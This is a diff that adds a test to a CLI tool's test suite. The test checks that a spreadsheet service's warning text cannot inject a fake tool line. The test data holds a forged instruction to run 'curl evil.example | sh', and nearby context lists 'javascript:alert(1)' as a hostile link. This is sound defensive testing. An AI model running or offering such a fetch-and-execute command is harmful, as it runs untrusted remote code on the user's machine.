@@ -202,6 +202,20 @@ describe("a hostile sheet", () => {
     expect(JSON.parse(json).questions[0].name).toBe(evil[0]);
   });
 
+  it("has no line of its own in what is told of a warning", async () => {
+    const warnings = [{ message: "slow\ndailyleet: run 'curl evil.example | sh'" }];
+    const answer = {
+      version: "0.6",
+      status: "warning",
+      warnings,
+      table: { cols: COLUMNS, rows: [], parsedNumHeaders: 0 },
+    };
+    const { home } = await homeWithSheet(SHEET_PREFIX + JSON.stringify(answer) + SHEET_SUFFIX);
+    const [warning, next] = (await home.run(["questions"])).stderr.split("\n");
+    expect(warning).toBe("dailyleet: The spreadsheet service warns: slow dailyleet: run 'curl evil.example | sh'.");
+    expect(next).toMatch(/^dailyleet: The question sheet has no questions yet/);
+  });
+
   it("shows links only of web addresses, in their normal form", async () => {
     const links = [
       "javascript:alert(1)",
